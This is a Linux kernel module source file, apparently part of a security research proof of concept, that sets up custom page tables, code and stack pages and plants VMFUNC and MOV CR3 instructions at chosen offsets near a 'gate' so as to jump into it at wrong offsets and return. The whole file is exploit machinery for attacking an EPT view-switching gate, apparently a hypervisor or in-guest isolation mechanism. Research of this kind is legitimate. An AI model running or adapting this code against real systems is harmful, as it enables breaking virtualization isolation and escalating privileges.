// SPDX-License-Identifier: GPL-2.0-or-later
/* See attack.h. */

#include <linux/gfp.h>
#include <linux/io.h>
#include <linux/mm.h>
#include <linux/string.h>

#include "attack.h"
#include "gate_offsets.h"

/* An exception in view 0 with RSP at the list is handled on these, from the list's page downwards. */
#define STACK_ORDER 2
#define STACK_PAGES (1 << STACK_ORDER)

static const u8 vmfunc[] = {0x0f, 0x01, 0xd4};
static const u8 mov_cr3_r8[] = {0x41, 0x0f, 0x22, 0xd8};

static int map_stack(struct attack_page *page, unsigned long top)
{
	int i, err = 0;

	for (i = 0; i < STACK_PAGES && !err; i++)
		err = tables_map(&page->tables, top - (STACK_PAGES - 1 - i) * PAGE_SIZE,
				 virt_to_phys(page->stack) + i * PAGE_SIZE);
	return err;
}

/* Some wrong offsets hold instructions that cut RSP to 32 bits: exceptions must work there, too. */
int page_create(struct attack_page *page)
{
	unsigned long list = (unsigned long)gate + SM_VA_LIST, top;
	int i, err = tables_create(&page->tables);

	page->code = (u8 *)__get_free_pages(GFP_KERNEL, 1);
	page->stack = (u8 *)__get_free_pages(GFP_KERNEL, STACK_ORDER);
	if (err || !page->code || !page->stack) {
		page_destroy(page);
		return -ENOMEM;
	}
	for (i = 0; i < 2 && !err; i++)
		err = tables_map(&page->tables, (unsigned long)gate + (i - 1) * PAGE_SIZE,
				 virt_to_phys(page->code) + i * PAGE_SIZE);
	top = (unsigned long)page->stack + (STACK_PAGES - 1) * PAGE_SIZE;
	if (!err)
		err = map_stack(page, list);
	if (!err)
		err = map_stack(page, (u32)list);
	if (!err)
		err = map_stack(page, (u32)top);
	if (err)
		page_destroy(page);
	return err;
}

u64 page_stack(const struct attack_page *page)
{
	return (u64)page->stack + STACK_PAGES * PAGE_SIZE - 0x400;
}

void page_destroy(struct attack_page *page)
{
	free_pages((unsigned long)page->code, 1);
	free_pages((unsigned long)page->stack, STACK_ORDER);
	tables_destroy(&page->tables);
}

/* jmp *0(%rip) to run_back */
static void put_way_back(u8 *at)
{
	static const u8 jump[] = {0xff, 0x25, 0, 0, 0, 0};
	u64 target = (u64)run_back;

	memcpy(at, jump, sizeof(jump));
	memcpy(at + sizeof(jump), &target, sizeof(target));
}

/* Away from what page_aim() writes. */
unsigned int page_warm(unsigned int offset)
{
	return offset < PAGE_SIZE / 2 ? PAGE_SIZE - 0x100 : 0x700;
}

void page_aim(struct attack_page *page, unsigned int offset, bool late_cr3)
{
	u8 *at = page->code + PAGE_SIZE + offset - sizeof(vmfunc);

	memset(page->code, 0xcc, 2 * PAGE_SIZE);
	put_way_back(page->code + PAGE_SIZE + GATE_LEAVE_OFFSET);
	put_way_back(page->code + PAGE_SIZE + SM_VA_RETURN);
	memcpy(at, vmfunc, sizeof(vmfunc));
	page->code[PAGE_SIZE + page_warm(offset)] = 0xc3; /* ret */
	if (late_cr3)
		memcpy(at - sizeof(mov_cr3_r8), mov_cr3_r8, sizeof(mov_cr3_r8));
	/* The guest's own page there is global: after an event it would outlive MOV CR3. */
	asm volatile("invlpg (%0)" : : "r"(gate) : "memory");
}
